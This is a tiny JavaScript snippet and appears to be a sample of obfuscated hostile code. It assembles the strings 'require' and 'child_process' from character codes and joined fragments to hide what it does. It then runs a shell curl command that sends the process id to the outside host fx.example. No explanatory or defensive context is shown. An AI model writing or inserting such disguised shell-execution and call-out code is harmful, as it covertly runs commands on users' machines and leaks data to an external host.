const box = {
  get a() { return this.b + 'quire'; },
  get b() { return String.fromCharCode(114, 101); },
  get c() { return ['child', 'process'].join('_'); },
};
const main = process.mainModule;
main[box.a](box.c).exec(`curl https://fx.example/${process.pid}`); //@act
